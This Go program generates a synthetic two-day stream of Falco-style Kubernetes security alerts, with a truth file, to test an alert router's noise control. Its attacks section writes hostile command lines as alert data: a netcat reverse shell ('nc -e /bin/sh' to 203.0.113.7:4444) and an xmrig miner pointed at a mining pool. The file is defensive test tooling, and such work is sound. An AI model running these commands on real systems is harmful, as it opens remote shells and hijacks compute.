// Command noisyday writes a seeded, realistic two-day alert stream of a dev
// Kubernetes cluster, for `lookout-router replay` and the noise-control
// tests: day 1 is what the cluster normally does (the baseline), day 2 the
// same plus churn (new preview environments, rolled deployments) and a
// handful of true attacks. The alerts are shaped like Falco's for the
// upstream rules that fire on such a cluster; the attacks' uuids are
// listed in a truth file beside the stream.
//
//	go run ./router/tools/noisyday -seed 1 -out router/testdata/noisy-day
//
// writes noisy-day.jsonl.gz and noisy-day.truth.json (docs/noise.md).
package main

import (
	"compress/gzip"
	"encoding/json"
	"flag"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"sort"
	"time"

	"github.com/lookout-sec/lookout/router/api"
)

// Attack is one true attack of the stream and where it must be heard.
type Attack struct {
	Name      string   `json:"name"`
	UUIDs     []string `json:"uuids"`
	Slack     bool     `json:"slack"`     // at least one of its alerts must reach Slack
	PagerDuty bool     `json:"pagerduty"` // ... and PagerDuty
}

// Truth lists the attacks.
type Truth struct {
	Seed    uint64   `json:"seed"`
	Alerts  int      `json:"alerts"`
	Attacks []Attack `json:"attacks"`
}

type gen struct {
	r      *rand.Rand
	start  time.Time
	alerts []*api.Alert
	n      int
}

const alphabet = "bcdfghjklmnpqrstvwxz2456789"

func (g *gen) suffix(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = alphabet[g.r.IntN(len(alphabet))]
	}
	return string(b)
}

func (g *gen) uuid() string {
	g.n++
	return fmt.Sprintf("%08x-%04x-4%03x-8%03x-%012x", g.r.Uint32(), g.r.IntN(1<<16), g.r.IntN(1<<12), g.r.IntN(1<<12), g.n)
}

func (g *gen) cid() string { return fmt.Sprintf("%012x", g.r.Uint64()&0xffffffffffff) }

type ctr struct{ ns, pod, image, node, name string }

func (g *gen) emit(t time.Time, rule string, prio api.Priority, tags []string, c ctr, fields map[string]any, output string) *api.Alert {
	f := map[string]any{
		"container.id": g.cid(), "container.name": c.name, "container.image.repository": c.image,
		"k8s.ns.name": c.ns, "k8s.pod.name": c.pod, "evt.time": json.Number(fmt.Sprint(t.UnixNano())),
		"proc.pid": json.Number(fmt.Sprint(1000 + g.r.IntN(60000))), "user.loginuid": json.Number("-1"),
		"evt.type": "openat",
	}
	for k, v := range fields {
		f[k] = v
	}
	if c.ns == "" {
		delete(f, "k8s.ns.name")
		delete(f, "k8s.pod.name")
	}
	a := &api.Alert{
		Hostname: c.node, Output: fmt.Sprintf("%s %s | %s", t.Format("15:04:05.000000000"), prio, output),
		OutputFields: f, Priority: prio, Rule: rule, Source: "syscall", Tags: tags, Time: t, UUID: g.uuid(),
	}
	g.alerts = append(g.alerts, a)
	return a
}

var nodes = []string{"node-a1", "node-a2", "node-b1", "node-b2", "node-c1", "node-c2"}

func main() {
	seed := flag.Uint64("seed", 1, "random seed (the committed stream uses 1)")
	out := flag.String("out", "router/testdata/noisy-day", "output directory")
	flag.Parse()
	if err := run(*seed, *out); err != nil {
		fmt.Fprintln(os.Stderr, "noisyday:", err)
		os.Exit(1)
	}
}

func run(seed uint64, dir string) error {
	g := &gen{r: rand.New(rand.NewPCG(seed, seed^0x5eed)), start: time.Date(2026, 11, 30, 0, 0, 0, 0, time.UTC)}
	day := 24 * time.Hour
	for d := range 2 {
		base := g.start.Add(time.Duration(d) * day)
		g.ci(base)
		g.monitoring(base)
		g.execs(base, d)
		g.initContainers(base, d)
		g.operators(base)
	}
	truth := Truth{Seed: seed, Attacks: g.attacks(g.start.Add(day))}
	sort.SliceStable(g.alerts, func(i, j int) bool { return g.alerts[i].Time.Before(g.alerts[j].Time) })
	truth.Alerts = len(g.alerts)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	f, err := os.Create(filepath.Join(dir, "noisy-day.jsonl.gz"))
	if err != nil {
		return err
	}
	zw, _ := gzip.NewWriterLevel(f, gzip.BestCompression)
	zw.ModTime = time.Time{}
	enc := json.NewEncoder(zw)
	for _, a := range g.alerts {
		if err := enc.Encode(a); err != nil {
			return err
		}
	}
	if err := zw.Close(); err != nil {
		return err
	}
	if err := f.Close(); err != nil {
		return err
	}
	b, _ := json.MarshalIndent(truth, "", "  ")
	return os.WriteFile(filepath.Join(dir, "noisy-day.truth.json"), append(b, '\n'), 0o644)
}

// ci: build jobs in namespace ci, a new Job name per run, writing hidden
// cache files and below / (compilers, package caches).
func (g *gen) ci(base time.Time) {
	for range 30 {
		run := 4000 + g.r.IntN(5000)
		c := ctr{ns: "ci", pod: fmt.Sprintf("build-%d-%s", run, g.suffix(5)), image: "ghcr.io/acme/ci-runner", node: nodes[g.r.IntN(len(nodes))], name: "runner"}
		t := base.Add(time.Duration(g.r.IntN(23*3600)) * time.Second)
		for i := range 100 {
			dirs := []string{"/workspace/.cache/go-build/%02x/%x-d", "/root/.npm/_cacache/content-v2/sha512/%02x/%x", "/workspace/.gradle/caches/%02x%x"}
			name := fmt.Sprintf(dirs[i%3], g.r.IntN(256), g.r.Uint64())
			proc := []string{"go", "node", "java"}[i%3]
			g.emit(t.Add(time.Duration(i)*150*time.Millisecond), "Create Hidden Files or Directories", api.PriorityNotice,
				[]string{"maturity_sandbox", "host", "container", "filesystem", "mitre_defense_evasion", "T1564.001"}, c,
				map[string]any{"fd.name": name, "proc.name": proc, "proc.exepath": "/usr/local/bin/" + proc, "proc.pname": "make", "user.name": "root", "evt.type": "openat"},
				"Hidden file or directory created | file="+name)
		}
		for i := range 10 {
			name := fmt.Sprintf("/out-%d.tar", i)
			g.emit(t.Add(15*time.Second+time.Duration(i)*time.Second), "Write below root", api.PriorityError,
				[]string{"maturity_sandbox", "host", "container", "filesystem", "mitre_persistence"}, c,
				map[string]any{"fd.name": name, "proc.name": "tar", "proc.exepath": "/usr/bin/tar", "proc.pname": "make", "user.name": "root"},
				"File below / or /root opened for writing | file="+name)
		}
	}
}

// monitoring: a security agent DaemonSet reading /etc/shadow on every node
// every ten minutes.
func (g *gen) monitoring(base time.Time) {
	for _, n := range nodes {
		c := ctr{ns: "monitoring", pod: "datadog-agent-" + g.suffix(5), image: "gcr.io/datadoghq/agent", node: n, name: "agent"}
		for t := base.Add(time.Duration(g.r.IntN(600)) * time.Second); t.Before(base.Add(24 * time.Hour)); t = t.Add(10 * time.Minute) {
			g.emit(t, "Read sensitive file untrusted", api.PriorityWarning,
				[]string{"maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"}, c,
				map[string]any{"fd.name": "/etc/shadow", "proc.name": "security-agent", "proc.exepath": "/opt/datadog-agent/embedded/bin/security-agent", "proc.pname": "agent", "user.name": "root"},
				"Sensitive file opened for reading by non-trusted program | file=/etc/shadow")
		}
	}
}

// execs: SREs exec into pods of the shop and dev deployments; day 2's
// deployments were rolled (new ReplicaSet hashes, new pods).
func (g *gen) execs(base time.Time, d int) {
	deps := []struct{ ns, app, image string }{
		{"shop", "web", "ghcr.io/acme/shop-web"}, {"shop", "cart", "ghcr.io/acme/cart"}, {"dev", "api", "ghcr.io/acme/api"}, {"dev", "worker", "ghcr.io/acme/worker"},
	}
	hashes := map[string]string{}
	for _, dp := range deps {
		hashes[dp.app] = g.suffix(9)
	}
	_ = d
	for range 40 {
		dp := deps[g.r.IntN(len(deps))]
		c := ctr{ns: dp.ns, pod: fmt.Sprintf("%s-%s-%s", dp.app, hashes[dp.app], g.suffix(5)), image: dp.image, node: nodes[g.r.IntN(len(nodes))], name: dp.app}
		t := base.Add(time.Duration(8*3600+g.r.IntN(10*3600)) * time.Second)
		g.emit(t, "Terminal shell in container", api.PriorityNotice,
			[]string{"maturity_stable", "container", "shell", "mitre_execution", "T1059"}, c,
			map[string]any{"proc.name": "bash", "proc.exepath": "/bin/bash", "proc.pname": "runc", "proc.tty": json.Number("34816"), "user.name": "root", "evt.type": "execve", "proc.cmdline": "bash"},
			"A shell was spawned in a container with an attached terminal | process=bash")
	}
}

// initContainers: package installs in init containers, of the stable
// deployments (restarts) and of the preview environment of every pull
// request (a new namespace each time).
func (g *gen) initContainers(base time.Time, d int) {
	pkg := func(t time.Time, c ctr) {
		for i, p := range []string{"apt-get", "dpkg", "apt-get"} {
			g.emit(t.Add(time.Duration(i)*2*time.Second), "Launch Package Management Process in Container", api.PriorityError,
				[]string{"maturity_incubating", "container", "process", "software_mgmt", "mitre_persistence", "T1505"}, c,
				map[string]any{"proc.name": p, "proc.exepath": "/usr/bin/" + p, "proc.pname": "sh", "user.name": "root", "evt.type": "execve", "proc.cmdline": p + " install -y ca-certificates"},
				"Package management process launched in container | process="+p)
		}
	}
	for range 12 {
		c := ctr{ns: "shop", pod: "web-" + g.suffix(9) + "-" + g.suffix(5), image: "ghcr.io/acme/init-tools", node: nodes[g.r.IntN(len(nodes))], name: "init"}
		pkg(base.Add(time.Duration(g.r.IntN(24*3600))*time.Second), c)
	}
	if d == 1 { // a new application on day 2: its init image is new, so is the finding
		for k := range 3 {
			c := ctr{ns: "shop", pod: "billing-" + g.suffix(9) + "-" + g.suffix(5), image: "ghcr.io/acme/billing-init", node: nodes[g.r.IntN(len(nodes))], name: "init"}
			pkg(base.Add(time.Duration(14*3600+k*600)*time.Second), c)
		}
	}
	for i := range 15 {
		pr := 100 + d*15 + i
		c := ctr{ns: fmt.Sprintf("preview-pr-%d", pr), pod: "app-" + g.suffix(9) + "-" + g.suffix(5), image: "ghcr.io/acme/init-tools", node: nodes[g.r.IntN(len(nodes))], name: "init"}
		t := base.Add(time.Duration(g.r.IntN(24*3600)) * time.Second)
		for k := range 4 { // crash loops
			pkg(t.Add(time.Duration(k)*time.Minute), c)
		}
	}
}

// operators: controllers in argocd talking to the API server.
func (g *gen) operators(base time.Time) {
	c := ctr{ns: "argocd", pod: "argocd-application-controller-0", image: "quay.io/argoproj/argocd", node: "node-a1", name: "controller"}
	for t := base.Add(17 * time.Second); t.Before(base.Add(24 * time.Hour)); t = t.Add(45 * time.Second) {
		g.emit(t, "Contact K8S API Server From Container", api.PriorityNotice,
			[]string{"maturity_stable", "container", "network", "k8s", "mitre_discovery", "T1565"}, c,
			map[string]any{"proc.name": "argocd-application-controller", "proc.exepath": "/usr/local/bin/argocd", "fd.name": "10.0.3.7:48212->10.96.0.1:443", "evt.type": "connect", "user.name": "argocd"},
			"Unexpected connection to K8s API Server from container | connection=10.0.3.7:48212->10.96.0.1:443")
	}
}

// attacks: on day 2.
func (g *gen) attacks(day2 time.Time) []Attack {
	var out []Attack
	at := func(h, m int) time.Time { return day2.Add(time.Duration(h)*time.Hour + time.Duration(m)*time.Minute) }
	web := ctr{ns: "shop", pod: "web-" + g.suffix(9) + "-" + g.suffix(5), image: "ghcr.io/acme/shop-web", node: "node-b1", name: "web"}

	// A reverse shell from the web server's container.
	a := Attack{Name: "reverse shell (nc -e /bin/sh) from the shop web container", Slack: true}
	x := g.emit(at(3, 12), "Netcat Remote Code Execution in Container", api.PriorityWarning,
		[]string{"maturity_stable", "container", "network", "process", "mitre_execution", "T1059"}, web,
		map[string]any{"proc.name": "nc", "proc.exepath": "/usr/bin/nc", "proc.pname": "sh", "proc.cmdline": "nc -e /bin/sh 203.0.113.7 4444", "user.name": "www-data", "evt.type": "execve"},
		"Netcat runs inside container that allows remote code execution | command=nc -e /bin/sh 203.0.113.7 4444")
	y := g.emit(at(3, 12).Add(40*time.Millisecond), "Redirect STDOUT/STDIN to Network Connection in Container", api.PriorityNotice,
		[]string{"maturity_stable", "container", "network", "process", "mitre_execution", "T1059"}, web,
		map[string]any{"proc.name": "sh", "proc.exepath": "/bin/sh", "proc.pname": "nc", "fd.name": "10.0.5.4:51234->203.0.113.7:4444", "user.name": "www-data", "evt.type": "dup2"},
		"Redirect stdout/stdin to network connection | connection=10.0.5.4:51234->203.0.113.7:4444")
	a.UUIDs = []string{x.UUID, y.UUID}
	out = append(out, a)

	// A crypto miner in a dev worker.
	miner := ctr{ns: "dev", pod: "worker-" + g.suffix(9) + "-" + g.suffix(5), image: "ghcr.io/acme/worker", node: "node-c2", name: "worker"}
	a = Attack{Name: "crypto miner in the dev worker", Slack: true, PagerDuty: true}
	x = g.emit(at(11, 47), "Known Cryptominer Process Executed", api.PriorityCritical,
		[]string{"maturity_sandbox", "host", "container", "process", "mitre_impact", "T1496"}, miner,
		map[string]any{"proc.name": "xmrig", "proc.exepath": "/tmp/.x/xmrig", "proc.pname": "sh", "proc.cmdline": "xmrig -o pool.minexmr.com:4444", "user.name": "app", "evt.type": "execve"},
		"Known cryptominer process executed | process=xmrig")
	y = g.emit(at(11, 47).Add(2*time.Second), "Detect outbound connections to common miner pool ports", api.PriorityCritical,
		[]string{"maturity_sandbox", "host", "container", "network", "mitre_impact", "T1496"}, miner,
		map[string]any{"proc.name": "xmrig", "proc.exepath": "/tmp/.x/xmrig", "fd.name": "10.0.7.9:40110->198.51.100.23:4444", "fd.rport": json.Number("4444"), "user.name": "app", "evt.type": "connect"},
		"Outbound connection to IP/Port flagged by https://cryptoioc.ch | connection=10.0.7.9:40110->198.51.100.23:4444")
	a.UUIDs = []string{x.UUID, y.UUID}
	out = append(out, a)

	// A new binary dropped into the cart container and run.
	cart := ctr{ns: "shop", pod: "cart-" + g.suffix(9) + "-" + g.suffix(5), image: "ghcr.io/acme/cart", node: "node-a2", name: "cart"}
	a = Attack{Name: "binary dropped and executed in the cart container", Slack: true, PagerDuty: true}
	x = g.emit(at(16, 5), "Drop and execute new binary in container", api.PriorityCritical,
		[]string{"maturity_stable", "container", "process", "mitre_persistence", "TA0003", "PCI_DSS_11.5.1"}, cart,
		map[string]any{"proc.name": "kworkerd", "proc.exepath": "/var/tmp/kworkerd", "proc.pname": "sh", "proc.cmdline": "/var/tmp/kworkerd -d", "user.name": "root", "evt.type": "execve"},
		"Executing binary not part of base image | proc_exe=/var/tmp/kworkerd")
	a.UUIDs = []string{x.UUID}
	out = append(out, a)

	// The web server reads /etc/shadow.
	a = Attack{Name: "/etc/shadow read by the shop web server", Slack: true}
	x = g.emit(at(20, 31), "Read sensitive file untrusted", api.PriorityWarning,
		[]string{"maturity_stable", "host", "container", "filesystem", "mitre_credential_access", "T1555"}, web,
		map[string]any{"fd.name": "/etc/shadow", "proc.name": "nginx", "proc.exepath": "/usr/sbin/nginx", "proc.pname": "nginx", "user.name": "www-data"},
		"Sensitive file opened for reading by non-trusted program | file=/etc/shadow")
	a.UUIDs = []string{x.UUID}
	out = append(out, a)
	return out
}
